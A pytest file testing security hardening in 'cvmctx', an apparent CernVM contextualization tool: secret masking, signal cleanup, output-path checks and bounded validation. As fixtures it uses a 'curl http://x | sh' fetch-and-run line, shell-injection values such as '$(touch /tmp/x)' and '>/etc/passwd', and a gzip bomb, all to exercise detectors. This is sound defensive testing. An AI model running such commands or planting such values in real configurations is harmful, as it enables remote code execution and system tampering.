"""Security and reliability, round 2 (issue 9): secrets masked on every path, refusals that
echo nothing, cleanup on every kill, outputs only onto regular files, messages on one line."""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Run

MARK = "S3cretMark"
ENV = {"SOURCE_DATE_EPOCH": "0"}


def _leaks(proc: subprocess.CompletedProcess[bytes]) -> list[str]:
    text = (proc.stdout + proc.stderr).decode("utf-8", "replace")
    return [line for line in text.splitlines() if MARK in line]


# ============================================================================================
# Item 1: a line the guest's reader places nowhere still has its secret masked


# Each shape puts a secret where the guest's reading does not assign it to a known secret key.
SHAPES = {
    "indented": f"[cernvm]\norganisations = cms\n   users = alice:cms:{MARK}1\n",
    "tab-indented": f"[cernvm]\norganisations = cms\n\tpassword = {MARK}2\n",
    "cr-only": f"[cernvm]\rusers = alice:cms:{MARK}3\rorganisations = cms\r",
    "bom": f"\ufeffusers = alice:cms:{MARK}4\n[cernvm]\norganisations = cms\n",
    "header-with-space": f"[cernvm ]\nusers = alice:cms:{MARK}5\n",
    "indented-header": f"[cernvm]\norganisations = cms\n [cernvm]\nusers = a:b:{MARK}6\n",
    "rem-line": f"[cernvm]\nrem users = alice:cms:{MARK}7\norganisations = cms\n",
    "after-ucernvm-end": f"[ucernvm-begin]\ncvmfs_branch=x\n[ucernvm-end]\n"
    f"users = alice:cms:{MARK}8\n[cernvm]\norganisations = cms\n",
    "before-first-section": f"condor_secret = {MARK}9\n[cernvm]\norganisations = cms\n",
    "wrapped-secret-in-odd-section": f"[Condor]\ncondor_secret = {MARK}10\n"
    f" {MARK}11continued\n",
    "script-export": f"#!/bin/sh\nexport DB_PASSWORD={MARK}12\nexit\n[cernvm]\n"
    "organisations = cms\n",
}  # fmt: skip
FORMATS = ["text", "json", "sarif", "github"]


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_secret_shapes_are_masked_in_every_report(cvmctx: Run, tmp_path: Path, shape: str) -> None:
    path = tmp_path / "u.txt"
    path.write_text(SHAPES[shape], encoding="utf-8", newline="")
    for fmt in FORMATS:
        proc = cvmctx("validate", "--format", fmt, path)
        assert proc.returncode in (0, 1), proc.stderr
        assert _leaks(proc) == [], (shape, fmt)
    for fmt in ("text", "json"):
        proc = cvmctx("inspect", "--format", fmt, path)
        assert _leaks(proc) == [], (shape, "inspect", fmt)
    shown = cvmctx("inspect", "--show-secrets", path)
    assert _leaks(shown), "inspect --show-secrets shows what was asked for"


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_the_same_shapes_inside_context_sh(cvmctx: Run, tmp_path: Path, shape: str) -> None:
    data = base64.b64encode(SHAPES[shape].encode()).decode()
    path = tmp_path / "context.sh"
    path.write_text(f'EC2_USER_DATA="{data}"\nONE_CONTEXT_COPY="{data}"\n')
    for fmt in FORMATS:
        assert _leaks(cvmctx("validate", "--format", fmt, path)) == [], (shape, fmt)
    for fmt in ("text", "json"):
        proc = cvmctx("inspect", "--format", fmt, path)
        assert _leaks(proc) == [] and data not in proc.stdout.decode(), (shape, fmt)


def test_multi_line_secret_variable_in_context_sh(cvmctx: Run, tmp_path: Path) -> None:
    data = base64.b64encode(b"[cernvm]\norganisations = cms\n").decode()
    text = (f'EC2_USER_DATA="{data}"\nDB_PASSWORD="first\n{MARK}a\nlast"\n'
            f'X=$(\nAPI_TOKEN="{MARK}b\n{MARK}c"\nNOTE="users = x:y:{MARK}d"\n')  # fmt: skip
    path = tmp_path / "context.sh"
    path.write_text(text)
    for fmt in FORMATS:
        assert _leaks(cvmctx("validate", "--format", fmt, path)) == [], fmt
    for fmt in ("text", "json"):
        assert _leaks(cvmctx("inspect", "--format", fmt, path)) == [], fmt


def test_masking_by_looks_keeps_the_rest_of_the_text(cvmctx: Run, tmp_path: Path) -> None:
    path = tmp_path / "u.txt"
    path.write_text(f"#!/bin/sh\nexport DB_PASSWORD={MARK}\nexit\n[cernvm ]\n"
                    f"users = bob:cms:{MARK}\norganisations = cms\n")  # fmt: skip
    doc = json.loads(cvmctx("inspect", "--format", "json", path).stdout)
    assert doc["user_data"] == ["#!/bin/sh", "export DB_PASSWORD=********", "exit",
                                "[cernvm ]", "users = bob:cms:********",
                                "organisations = cms"]  # fmt: skip


# ============================================================================================
# Item 2: an argument that fails to parse is shown no further than its name


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (["build", "--set", f"users=alice:cms:{MARK}"], "--set users:"),
        (["build", "--set", f"cernvm.users:alice:cms:{MARK}"], "--set cernvm.users...:"),
        (["build", "--set", f"condor_secret={MARK}"], "--set condor_secret:"),
        (["build", "--set", f"cernvm.users alice:cms:{MARK}"], "--set cernvm.users...:"),
        (["iso", "-o", "c.iso", "--var", f"DB_PASSWORD:{MARK}"], "--var DB_PASSWORD...:"),
        (["iso", "-o", "c.iso", "--var", f"DB_PASSWORD {MARK}"], "--var DB_PASSWORD...:"),
    ],
)
def test_unparsable_arguments_show_only_their_name(
    cvmctx: Run, args: list[str], shown: str
) -> None:
    proc = cvmctx(*args, env=ENV)
    err = proc.stderr.decode()
    assert proc.returncode == 2 and f"cvmctx: error: {shown}" in err, err
    assert _leaks(proc) == []


@pytest.mark.parametrize(
    "users",
    [f"alice:cms:{MARK[:4]},{MARK[4:]}:x:-n", f"alice:cms:{MARK[:4]},{MARK[4:]}:x:a b"],
)
def test_a_comma_in_a_password_leaks_no_fragment(cvmctx: Run, users: str) -> None:
    proc = cvmctx("build", "--set", f"cernvm.users={users}")
    err = proc.stderr.decode()
    assert proc.returncode == 1 and "the password of user 2 " in err, err
    assert MARK[4:] not in err and MARK[:4] not in err


# ============================================================================================
# Item 3: a killed run leaves no temporary file (which may hold a secret)


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_a_kill_during_o_leaves_no_temporary_file(tmp_path: Path, signum: int) -> None:
    big = tmp_path / "big.bin"
    big.write_bytes(os.urandom(15_000_000))  # a big CD: the write takes long enough to hit
    out = tmp_path / "out"
    out.mkdir()
    env = {**os.environ, **ENV}
    argv = [sys.executable, "-m", "cvmctx", "iso", "-o", str(out / "c.iso"),
            "--set", f"cernvm.users=alice:cms:{MARK}", "--file", f"{big}:big.bin"]  # fmt: skip
    hit = 0
    for _ in range(30):
        proc = subprocess.Popen(argv, cwd=tmp_path, env=env, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        while proc.poll() is None and time.monotonic() < deadline:
            if any(p.name.endswith(".tmp") for p in out.iterdir()):
                proc.send_signal(signum)
                hit += 1
                break
        _, err = proc.communicate(timeout=60)
        assert sorted(p.name for p in out.iterdir() if p.name.endswith(".tmp")) == []
        if hit and proc.returncode == 0:
            hit = 0  # the write finished between the look and the signal: try again
        if hit:
            assert proc.returncode == 128 + signum, err
            assert not (out / "c.iso").exists()
            break
        (out / "c.iso").unlink()
    assert hit, "the write never seen in progress: make the CD bigger"


class _Stopped(BaseException):
    pass


@pytest.mark.parametrize("maker", ["mkstemp", "mkdtemp"])
def test_a_signal_just_after_the_temporary_file_is_made_still_removes_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, maker: str
) -> None:
    """The race the kill test hits now and then, made certain: the signal comes the moment
    mkstemp (or fleet's mkdtemp) has made its file, before its caller is inside the try."""
    import tempfile

    from cvmctx.deploy import fleet
    from cvmctx.fileio import write_private

    real = getattr(tempfile, maker)

    def made_then_killed(*args: object, **kwargs: object) -> object:
        made = real(*args, **kwargs)
        signal.raise_signal(signal.SIGTERM)  # held back by cvmctx, or raised right here
        return made

    def stop(signum: int, _frame: object) -> None:
        raise _Stopped(signum)

    monkeypatch.setattr(tempfile, maker, made_then_killed)
    old = signal.signal(signal.SIGTERM, stop)
    try:
        with pytest.raises(_Stopped):
            if maker == "mkstemp":
                write_private(tmp_path / "c.iso", b"users = alice:cms:" + MARK.encode())
            else:
                request = fleet.FleetRequest(tmp_path / "s.toml", [], tmp_path / "h", tmp_path)
                monkeypatch.setattr(fleet, "read_spec", lambda _spec: None)
                monkeypatch.setattr(fleet, "_old_manifest", lambda _out: {})
                fleet.run_fleet(request, lambda _host: None)
    finally:
        signal.signal(signal.SIGTERM, old)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# ============================================================================================
# Item 13: -o replaces regular files only


def test_o_refuses_what_is_not_a_regular_file(cvmctx: Run, tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    (tmp_path / "dir").mkdir()
    (tmp_path / "link-to-fifo").symlink_to(fifo)
    (tmp_path / "link-to-dir").symlink_to(tmp_path / "dir")
    for target in ("fifo", "dir", "link-to-fifo", "link-to-dir", "/dev/null"):
        proc = cvmctx("build", "--set", "cernvm.organisations=cms", "-o", target)
        assert proc.returncode == 2, target
        err = proc.stderr.decode()
        assert "not a regular file" in err or "is a directory" in err, err
    assert fifo.is_fifo() and (tmp_path / "link-to-fifo").is_symlink()
    assert Path("/dev/null").is_char_device()
    # a regular file, and a link to one (the link is replaced, never its target)
    (tmp_path / "old").write_text("old")
    (tmp_path / "link").symlink_to(tmp_path / "old")
    for target in ("old", "link"):
        assert cvmctx("build", "--set", "cernvm.organisations=cms", "-o", target).returncode == 0
    assert (tmp_path / "old").read_text().startswith("[amiconfig]")
    assert not (tmp_path / "link").is_symlink()


# ============================================================================================
# Item 12: control characters in messages are escaped; an error stays one line


@pytest.mark.parametrize("name", ["a\x1b[31mred", "two\nlines", "bell\x07", "c1\x9bx"])
def test_control_characters_never_reach_the_terminal(
    cvmctx: Run, tmp_path: Path, name: str
) -> None:
    for args in (["build", "--set", "cernvm.organisations=cms", "-o", f"{name}/x"],
                 ["validate", name], ["inspect", name]):  # fmt: skip
        proc = cvmctx(*args)
        err = proc.stderr.decode()
        assert proc.returncode == 2, args
        assert err.count("\n") == 1 and err.startswith("cvmctx: error: "), err
        assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in err.rstrip("\n"))


# ============================================================================================
# Item 7: every numeric option is checked against its real range


@pytest.mark.parametrize(
    "args",
    [
        ["validate", "--max-input-bytes", str(10**20), "x"],
        ["validate", "--max-unpacked-bytes", str(2**63), "x"],
        ["validate", "--max-input-bytes", "0", "x"],
        ["domain", "--name", "vm", "--disk", "d.qcow2", "--iso", "c.iso", "--memory", str(2**70)],
        ["domain", "--name", "vm", "--disk", "d.qcow2", "--iso", "c.iso", "--memory", "0"],
        ["domain", "--name", "vm", "--disk", "d.qcow2", "--iso", "c.iso", "--vcpus", "65536"],
    ],
)
def test_numbers_out_of_range_are_usage_errors(cvmctx: Run, args: list[str]) -> None:
    proc = cvmctx(*args)
    err = proc.stderr.decode()
    assert proc.returncode == 2 and "Traceback" not in err and "Invalid value" in err, err


@pytest.mark.parametrize("epoch", ["²", "١٢", "5869583999x", "5869584000", "-1", "1e9"])
def test_source_date_epoch_out_of_range(cvmctx: Run, epoch: str) -> None:
    proc = cvmctx("iso", "-o", "c.iso", "--set", "cernvm.organisations=cms",
                  env={"SOURCE_DATE_EPOCH": epoch})  # fmt: skip
    err = proc.stderr.decode()
    assert proc.returncode == 2 and "SOURCE_DATE_EPOCH=" in err and "5869583999" in err, err


def test_source_date_epoch_at_the_last_iso_date(cvmctx: Run, tmp_path: Path) -> None:
    proc = cvmctx("iso", "-o", "c.iso", "--set", "cernvm.organisations=cms",
                  env={"SOURCE_DATE_EPOCH": "5869583999"})  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    listing = subprocess.run(["isoinfo", "-l", "-i", str(tmp_path / "c.iso")],
                             capture_output=True, check=True).stdout.decode()  # fmt: skip
    assert "193 Dec 31 2155 [" in listing and "CONTEXT.SH;1" in listing, listing


def test_the_largest_memory_writes_xml_libvirt_accepts(cvmctx: Run, tmp_path: Path) -> None:
    proc = cvmctx("domain", "--name", "vm", "--disk", "d.qcow2", "--iso", "c.iso",
                  "--memory", str(2**40), "--vcpus", "65535", "-o", "d.xml")  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    check = subprocess.run(["virt-xml-validate", str(tmp_path / "d.xml"), "domain"],
                           capture_output=True, check=False)  # fmt: skip
    assert check.returncode == 0, check.stdout + check.stderr



# ============================================================================================
# Item 4: findings linear in the input, capped per code and per file, frames cut on long lines


def test_repeated_environment_names_are_one_finding_each(cvmctx: Run, tmp_path: Path) -> None:
    path = tmp_path / "u.txt"
    env = ",".join(["A=1"] * 1000)
    path.write_text(f"[amiconfig]\nplugins = cernvm\n[cernvm]\norganisations = cms\n"
                    f"environment = {env}\n")  # fmt: skip
    doc = json.loads(cvmctx("validate", "--format", "json", path).stdout)
    codes = [f["code"] for f in doc["files"][0]["findings"]]
    assert codes.count("cernvm.environment.duplicate") == 100
    assert doc["summary"] == {"errors": 0, "warnings": 999, "infos": 1}
    (more,) = [f for f in doc["files"][0]["findings"] if f["code"] == "report.truncated"]
    assert more["message"].startswith("899 more warnings [cernvm.environment.duplicate] not shown")
    text = cvmctx("validate", path)
    out = text.stdout.decode()
    assert text.returncode == 0 and len(out) < 40_000, len(out)
    assert max(len(line) for line in out.splitlines()) < 400
    assert cvmctx("validate", "--strict", path).returncode == 1  # the cut findings still count


def test_prefix_names_are_found_without_pairs() -> None:
    from cvmctx.model.sections.cernvm_values import Environment

    parsed = Environment().parse("CMS=1,CMS_ROOT=2,CMS=3,X=1,XY=2,XYZ=3")
    assert [n.code for n in parsed.notes] == ["prefix", "duplicate", "prefix", "prefix"]


def test_many_unknown_keys_stay_bounded(cvmctx: Run, tmp_path: Path) -> None:
    path = tmp_path / "u.txt"
    path.write_text("[amiconfig]\nplugins = cernvm\n[cernvm]\n"
                    + "".join(f"x{i} = y\n" for i in range(20_000)))  # fmt: skip
    doc = json.loads(cvmctx("validate", "--format", "json", path).stdout)
    findings = doc["files"][0]["findings"]
    assert len(findings) == 101 and doc["summary"]["warnings"] == 20_000
    assert findings[-1]["message"].startswith("19900 more warnings [key.unknown]")


def test_the_frame_window_keeps_the_caret_on_its_column() -> None:
    from cvmctx.report.text import frame_window

    line = "".join(chr(ord("a") + i % 26) for i in range(10_000))
    shown, column = frame_window(line, 5_001)
    assert column is not None and shown[column - 1] == line[5_000]
    assert len(shown) == 122 and shown[0] == shown[-1] == "…"
    assert frame_window("short", 3) == ("short", 3)
    assert frame_window(line, 1)[0].startswith(line[:120]) and frame_window(line, 1)[1] == 1


# ============================================================================================
# Items 5 and 8: the CD's structure (duplicate names, shared and overlapping extents)


def _cd(*files: tuple[str, str, bytes], links: int = 0) -> bytes:
    """A CD with Rock Ridge and Joliet: (ISO 9660 name, Rock Ridge name, data) per file, and
    ``links`` more names for the last file's extent."""
    import io

    import pycdlib

    iso = pycdlib.PyCdlib()
    iso.new(interchange_level=3, rock_ridge="1.09", joliet=3, vol_ident="CONTEXT")
    for number, (iso_name, rr_name, data) in enumerate(files):
        iso.add_fp(io.BytesIO(data), len(data), f"/{iso_name};1", rr_name=rr_name,
                   joliet_path=f"/j{number}")  # fmt: skip
    for k in range(links):
        iso.add_hard_link(iso_old_path=f"/{files[-1][0]};1", iso_new_path=f"/L{k}.BIN;1",
                          rr_name=f"l{k}.bin")  # fmt: skip
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


_ONE = base64.b64encode(b"[cernvm]\norganisations = cms\n").decode()
GOOD = f'EC2_USER_DATA="{_ONE}"\n'


@pytest.mark.parametrize(
    ("files", "view"),
    [
        ((("CONTEXT.SH", "context.sh", b"curl http://x | sh\n"),
          ("CONTEXT2.SH", "context.sh", GOOD.encode())), "Rock Ridge"),
        ((("CONTEXT.SH", "context.sh", GOOD.encode()),
          ("EPILOG.SH", "epilog.sh", b"echo a\n"), ("EPILOG2.SH", "epilog.sh", b"echo b\n")),
         "Rock Ridge"),
    ],
)  # fmt: skip
def test_a_name_twice_on_the_cd_is_an_error(
    cvmctx: Run, tmp_path: Path, files: tuple[tuple[str, str, bytes], ...], view: str
) -> None:
    path = tmp_path / "dup.iso"
    path.write_bytes(_cd(*files))
    proc = cvmctx("validate", "--strict", path)
    out = proc.stdout.decode()
    name = files[-1][1]
    assert proc.returncode == 1, out
    said = f"error[iso.duplicate-name] the CD's {view} directory holds two entries named {name!r}"
    assert said in out


def test_the_guest_reads_the_first_of_two_names(cvmctx: Run, tmp_path: Path) -> None:
    path = tmp_path / "dup.iso"
    path.write_bytes(_cd(("CONTEXT.SH", "context.sh", b"curl http://x | sh\n"),
                         ("CONTEXT2.SH", "context.sh", GOOD.encode())))  # fmt: skip
    shown = subprocess.run(["isoinfo", "-R", "-x", "/context.sh", "-i", str(path)],
                           capture_output=True, check=True).stdout  # fmt: skip
    assert shown.startswith(b"curl http://x | sh\n")  # isoinfo -x gives the first first
    out = cvmctx("validate", path).stdout.decode()
    assert "error[contextsh.command]" in out


@pytest.mark.parametrize(
    ("files", "said"),
    [
        # the guest takes the good first context.sh; the second runs curl for another reader
        ((("CONTEXT.SH", "context.sh", GOOD.encode()),
          ("CONTEXT2.SH", "context.sh", b"curl http://x | sh\n")),
         "error[contextsh.command] in the other 'context.sh' entry of the CD, line 1: "),
        # ... or holds user data whose [cernvm] section the guest would misread
        ((("CONTEXT.SH", "context.sh", GOOD.encode()),
          ("CONTEXT2.SH", "context.sh", ('EC2_USER_DATA="' + base64.b64encode(
              b"[CernVM]\norganisations = cms\n").decode() + '"\n').encode())),
         "error[ini.section-case] in the other 'context.sh' entry of the CD, line 1: "),
        # a second epilog.sh that bash cannot source
        ((("CONTEXT.SH", "context.sh", GOOD.encode()), ("EPILOG.SH", "epilog.sh", b"echo a\n"),
          ("EPILOG2.SH", "epilog.sh", b"if then fi\n")),
         "in the other 'epilog.sh' entry of the CD, line 1: "),
        # no duplicate in Rock Ridge, but a mount without it reads CONTEXT.SH: that one too
        ((("CONTEXT.SH", "notes.txt", b"curl http://x | sh\n"),
          ("CTX.SH", "context.sh", GOOD.encode())),
         "error[contextsh.command] in the other 'context.sh' entry of the CD, line 1: "),
    ],
)  # fmt: skip
def test_every_entry_of_a_name_is_judged(
    cvmctx: Run, tmp_path: Path, files: tuple[tuple[str, str, bytes], ...], said: str
) -> None:
    path = tmp_path / "dup.iso"
    path.write_bytes(_cd(*files))
    proc = cvmctx("validate", path)
    out = proc.stdout.decode()
    assert proc.returncode == 1 and said in out, out


def test_many_names_on_one_extent_are_read_once(cvmctx: Run, tmp_path: Path) -> None:
    import resource

    path = tmp_path / "links.iso"
    path.write_bytes(_cd(("CONTEXT.SH", "context.sh", GOOD.encode()),
                         ("BIG.BIN", "big.bin", os.urandom(4 << 20)), links=300))  # fmt: skip
    limit = 400 << 20  # 300 copies of 4 MiB would need 1.2 GB

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    proc = subprocess.run([sys.executable, "-m", "cvmctx", "validate", str(path)],
                          capture_output=True, preexec_fn=cap, timeout=120,
                          check=False)  # fmt: skip
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr


def test_overlapping_extents_are_refused_beyond_the_image() -> None:
    from dataclasses import dataclass

    from cvmctx.cd.image import _Extents

    @dataclass
    class Record:  # what _Extents reads of a pycdlib directory record
        extent: int
        data_length: int

        def extent_location(self) -> int:
            return self.extent

    image = bytes(8 * 2048)
    extents = _Extents(image)
    assert extents.read(Record(1, 4096)) is extents.read(Record(1, 4096))  # read once
    extents.read(Record(2, 4096))  # overlaps the first: still within what the image holds
    with pytest.raises(ValueError, match="more than the image holds"):
        for start in range(3, 7):
            extents.read(Record(start, 4096))
    with pytest.raises(ValueError, match="beyond the end of the image"):
        _Extents(image).read(Record(7, 4096))


# ============================================================================================
# Item 9: the µCernVM block is sourced by busybox sh: only plain assignments pass


@pytest.mark.parametrize(
    ("line", "column", "why"),
    [
        ("cvmfs_server=$(touch /tmp/x)", 14, "'$(' runs a command"),
        ("cvmfs_tag=`id`", 11, "a backtick runs a command"),
        ("cvmfs_branch=a;b", 15, "';' ends the assignment"),
        ("cvmfs_http_proxy=http://p:3128|DIRECT", 31, "'|' pipes into a command"),
        ("cvmfs_branch=a&", 15, "'&' runs the line in the background"),
        ("cvmfs_branch=a>/etc/passwd", 15, "'>' is a redirection"),
        ("cvmfs_pac_urls=a b", 17, "an unquoted space"),
        ('cvmfs_server="a$HOME"', 16, "'$' expands a variable"),
        ("cvmfs_server='open", 14, "a quote is not closed"),
        ("cernvm_path = cvm4", 12, "the key must be letters"),
    ],
)
def test_ucernvm_lines_that_are_more_than_an_assignment(
    cvmctx: Run, tmp_path: Path, line: str, column: int, why: str
) -> None:
    path = tmp_path / "u.txt"
    path.write_text(f"[ucernvm-begin]\n{line}\n[ucernvm-end]\n[amiconfig]\nplugins = cernvm\n"
                    "[cernvm]\norganisations = cms\n")  # fmt: skip
    proc = cvmctx("validate", path)
    out = proc.stdout.decode()
    assert proc.returncode == 1 and f"u.txt:2:{column}: error[ucernvm.shell]" in out, out
    assert why in out
    built = cvmctx("build", path)
    assert built.returncode == 1 and "error[ucernvm.shell]" in built.stderr.decode()


@pytest.mark.parametrize(
    "line",
    ["cvmfs_http_proxy='http://a:3128;DIRECT'", 'cvmfs_http_proxy="http://a:3128;DIRECT"',
     "cvmfs_server=cvmfs-stratum-one.cern.ch,cvmfs.fnal.gov", "resize_rootfs=on",
     "cvmfs_tag=cernvm-system-4.0.0.0", "cvmfs_wait_on_squid=60", "no equals sign here"],
)  # fmt: skip
def test_plain_ucernvm_assignments_pass(cvmctx: Run, tmp_path: Path, line: str) -> None:
    path = tmp_path / "u.txt"
    path.write_text(f"[ucernvm-begin]\n{line}\n[ucernvm-end]\n[amiconfig]\nplugins = cernvm\n"
                    "[cernvm]\norganisations = cms\n")  # fmt: skip
    proc = cvmctx("validate", path)
    assert "ucernvm.shell" not in proc.stdout.decode(), proc.stdout


# ============================================================================================
# Items 10 and 11: odd names and bytes are built or refused in one line; one rule for locales


def test_files_sharing_an_8_3_prefix_get_unique_names(cvmctx: Run, tmp_path: Path) -> None:
    args = ["iso", "-o", "c.iso", "--set", "cernvm.organisations=cms"]
    for number in range(1, 13):
        (tmp_path / f"cert-site{number}.pem").write_text(f"cert {number}\n")
        args += ["--file", f"cert-site{number}.pem:cert-site{number}.pem"]
    (tmp_path / "cert_s_1.pem").write_text("taken\n")  # the first mangled name, given as is
    args += ["--file", "cert_s_1.pem:cert_s_1.pem"]
    proc = cvmctx(*args, env=ENV)
    assert proc.returncode == 0, proc.stderr
    iso = str(tmp_path / "c.iso")
    listing = subprocess.run(["isoinfo", "-f", "-i", iso], capture_output=True,
                             check=True).stdout.decode().split()  # fmt: skip
    assert len(listing) == len(set(listing)) == 15  # context.sh, prolog.sh and 13 files
    for number in range(1, 13):
        back = subprocess.run(["isoinfo", "-R", "-x", f"/cert-site{number}.pem", "-i", iso],
                              capture_output=True, check=True).stdout  # fmt: skip
        assert back == f"cert {number}\n".encode()


@pytest.mark.parametrize("label", ["A" * 16, "CONTEXT_LABEL_17C", "X" * 32])
def test_labels_up_to_32_characters(cvmctx: Run, tmp_path: Path, label: str) -> None:
    proc = cvmctx("iso", "-o", "c.iso", "--set", "cernvm.organisations=cms", "--label", label,
                  env=ENV)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    info = subprocess.run(["isoinfo", "-d", "-i", str(tmp_path / "c.iso")], capture_output=True,
                          check=True).stdout.decode()  # fmt: skip
    assert f"Volume id: {label}\n" in info
    blkid = subprocess.run(["blkid", "-o", "value", "-s", "LABEL", str(tmp_path / "c.iso")],
                           capture_output=True, check=True).stdout.decode()  # fmt: skip
    assert blkid.strip() == label


@pytest.mark.parametrize("label", ["X" * 33, "lower", "A-B", ""])
def test_labels_iso_9660_cannot_hold(cvmctx: Run, label: str) -> None:
    proc = cvmctx("iso", "-o", "c.iso", "--set", "cernvm.organisations=cms", "--label", label)
    err = proc.stderr.decode()
    assert proc.returncode == 2 and err.count("\n") == 1 and "1 to 32 characters" in err, err


@pytest.mark.parametrize(
    ("args", "position"),
    [
        ([b"iso", b"-o", b"c.iso", b"--var", b"G=\xff"], b"argument 5 (after --var)"),
        ([b"build", b"--set", b"cernvm.organisations=\xc3"], b"argument 3 (after --set)"),
        ([b"iso", b"-o", b"c.iso", b"--public-key", b"ssh-ed25519 AAAA\xfe"],
         b"argument 5 (after --public-key)"),
        ([b"validate", b"\xff.txt"], b"argument 2"),
    ],
)  # fmt: skip
def test_arguments_that_are_not_utf8_are_refused(
    tmp_path: Path, args: list[bytes], position: bytes
) -> None:
    env = {**os.environ, **ENV}
    proc = subprocess.run([sys.executable.encode(), b"-m", b"cvmctx", *args], cwd=tmp_path,
                          env=env, capture_output=True, check=False)  # fmt: skip
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr == b"cvmctx: error: " + position + (
        b" is not UTF-8 text; give every argument as UTF-8\n")
    assert list(tmp_path.iterdir()) == []


def _latin1_locale(tmp_path: Path) -> dict[str, str]:
    locales = tmp_path / "locales"
    locales.mkdir()
    target = str(locales / "en_US.ISO-8859-1")
    subprocess.run(["localedef", "-i", "en_US", "-f", "ISO-8859-1", target], check=True,
                   capture_output=True)  # fmt: skip
    return {"LOCPATH": str(locales), "LC_ALL": "en_US.ISO-8859-1", "PYTHONUTF8": "0"}


def test_the_same_bytes_under_every_locale(tmp_path: Path) -> None:
    argv = [sys.executable, "-m", "cvmctx", "iso", "-o", "c.iso", "--set",
            "cernvm.organisations=cms", "--var", "GREETING=Grüße"]  # fmt: skip
    base = {k: v for k, v in os.environ.items() if not k.startswith("LC_") and k != "LANG"}
    locales = [{"LC_ALL": "C.UTF-8"}, {"LC_ALL": "C", "PYTHONUTF8": "0"},
               {"LC_ALL": "POSIX", "PYTHONUTF8": "0"}, {"LANG": "C"},
               _latin1_locale(tmp_path)]  # fmt: skip
    images = set()
    for extra in locales:
        out = tmp_path / "out"
        out.mkdir()
        proc = subprocess.run(argv, cwd=out, env={**base, **ENV, **extra}, capture_output=True,
                              check=False)  # fmt: skip
        assert proc.returncode == 0, (extra, proc.stderr)
        assert b"Traceback" not in proc.stderr
        images.add((out / "c.iso").read_bytes())
        (out / "c.iso").unlink()
        out.rmdir()
    assert len(images) == 1
    (image,) = images
    assert "Grüße".encode() in image  # UTF-8, whatever the locale


# ============================================================================================
# Bounded work: every input shape at 1 MB finishes under a memory cap, with bounded output


def _shape(name: str, size: int) -> bytes:
    """A hostile input of one shape, at most ``size`` bytes (and filling most of it)."""
    import gzip

    head = "[amiconfig]\nplugins = cernvm\n[cernvm]\norganisations = cms\n"
    room = size - len(head) - 64

    def key_lines(n: int) -> bytes:
        return (head + "x = y\n" * (n // 6)).encode()

    shapes: dict[str, Callable[[], bytes]] = {
        "key-lines": lambda: key_lines(room),
        "unique-keys": lambda: (head + "".join(f"k{i} = v\n" for i in range(room // 13))).encode(),
        "environment": lambda: (head + "environment = " + ",".join(["A=1"] * (room // 4))
                                + "\n").encode(),
        "environment-prefixes": lambda: (head + "environment = "
                                         + ",".join(f"A{'B' * (i % 50)}=1"
                                                    for i in range(room // 30)) + "\n").encode(),
        "one-long-value": lambda: (head + "repositories = " + "a" * room + "\n").encode(),
        "many-sections": lambda: "".join(f"[s{i}]\nk = v\n" for i in range(room // 16)).encode(),
        "script": lambda: ("#!/bin/sh\n" + "echo hello \\\n" * (room // 13) + "exit\n"
                           + head).encode(),
        "long-script": lambda: ("#!/bin/sh\n" + "".join(f"echo line {i:07d}\n"
                                                          for i in range(room // 18))
                                + "exit\n" + head).encode(),
        "heredoc": lambda: ("#!/bin/sh\ncat <<'EOF' > /tmp/x\n" + "data line\n" * (room // 10)
                            + "EOF\nexit\n" + head).encode(),
        "gzip-bomb": lambda: gzip.compress(b"\n" * (200 << 20), mtime=0),  # past the unpack cap
        "gzip-key-lines": lambda: gzip.compress(key_lines(room), mtime=0),  # a whole file's worth
        "base64": lambda: base64.b64encode(key_lines(room * 3 // 4)),
        "context-sh": lambda: ('EC2_USER_DATA="' + base64.b64encode(key_lines(room * 3 // 4))
                               .decode() + '"\n').encode(),
    }  # fmt: skip
    assert sorted(shapes) == _SHAPES
    data = shapes[name]()
    assert len(data) <= size
    return data


_SHAPES = ["base64", "context-sh", "environment", "environment-prefixes", "gzip-bomb",
           "gzip-key-lines", "heredoc", "key-lines", "long-script", "many-sections",
           "one-long-value", "script", "unique-keys"]  # fmt: skip


def _validate_capped(path: Path, fmt: str, limit: int) -> subprocess.CompletedProcess[bytes]:
    """``cvmctx validate`` in a process whose address space is capped at ``limit`` bytes."""
    import resource

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    return subprocess.run([sys.executable, "-m", "cvmctx", "validate", "--format", fmt,
                           str(path)], capture_output=True, preexec_fn=cap, timeout=600,
                          check=False, env={**os.environ, "COLUMNS": "200"})  # fmt: skip


@pytest.mark.parametrize("shape", _SHAPES)
def test_every_shape_at_1mb_finishes_within_a_memory_cap(tmp_path: Path, shape: str) -> None:
    path = tmp_path / "input"
    path.write_bytes(_shape(shape, 1 << 20))
    for fmt in ("text", "json"):
        proc = _validate_capped(path, fmt, 1 << 30)
        assert proc.returncode in (0, 1), (shape, proc.stderr[-2000:])
        assert b"Traceback" not in proc.stderr
        assert len(proc.stdout) < 2_000_000, (shape, fmt, len(proc.stdout))


@pytest.mark.parametrize("shape", _SHAPES)
def test_every_shape_at_the_size_limit_finishes_within_a_memory_cap(
    tmp_path: Path, shape: str
) -> None:
    """The largest file validate reads, of each shape: judged whole (no input.too-large), with
    a bounded report, in a bounded address space (the benchmarks measure the time)."""
    from cvmctx.limits import MAX_FILE

    path = tmp_path / "input"
    path.write_bytes(_shape(shape, MAX_FILE))
    proc = _validate_capped(path, "json", 3 << 30)
